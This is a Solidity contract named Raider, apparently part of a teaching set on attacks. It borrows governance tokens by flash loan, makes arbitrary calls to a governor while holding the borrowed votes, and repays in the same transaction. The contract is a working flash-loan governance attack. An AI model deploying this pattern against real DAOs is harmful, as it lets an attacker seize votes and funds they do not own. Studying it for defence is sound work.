// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {Call} from "../libraries/Call.sol";
import {SafeTransfer} from "../libraries/SafeTransfer.sol";
import {IERC20} from "../token/IERC20.sol";
import {FlashLender, IFlashBorrower} from "./FlashLender.sol";
import {Puppet} from "./Puppet.sol";

/// @title Raider
/// @notice FOR LESSONS: borrows votes, uses them and gives them back, all in one transaction.
contract Raider is Puppet, IFlashBorrower {
    using SafeTransfer for IERC20;

    /// @dev Who has lent, while a raid goes on.
    address private transient _lender;

    /// @notice Borrows, calls a governor, and pays back.
    /// @param lender Who lends.
    /// @param token The token that counts as votes.
    /// @param units How many.
    /// @param governor The governor.
    /// @param calls What it is called with meanwhile, in order.
    function raid(FlashLender lender, IERC20 token, uint256 units, address governor, bytes[] calldata calls)
        external
        byMaster
    {
        _lender = address(lender);
        lender.lend(token, units, abi.encode(governor, calls));
    }

    /// @inheritdoc IFlashBorrower
    function onLoan(IERC20 token, uint256 units, bytes calldata data) external {
        if (msg.sender != _lender) revert NotMaster(msg.sender, _lender);
        (address governor, bytes[] memory calls) = abi.decode(data, (address, bytes[]));
        for (uint256 i = 0; i < calls.length; i++) {
            this.strike(governor, calls[i]);
        }
        token.send(msg.sender, units);
    }

    /// @notice One call of a raid; only for the raider itself.
    /// @param target The governor.
    /// @param data Function and arguments.
    function strike(address target, bytes calldata data) external {
        if (msg.sender != address(this)) revert NotMaster(msg.sender, address(this));
        Call.run(target, 0, data);
    }
}
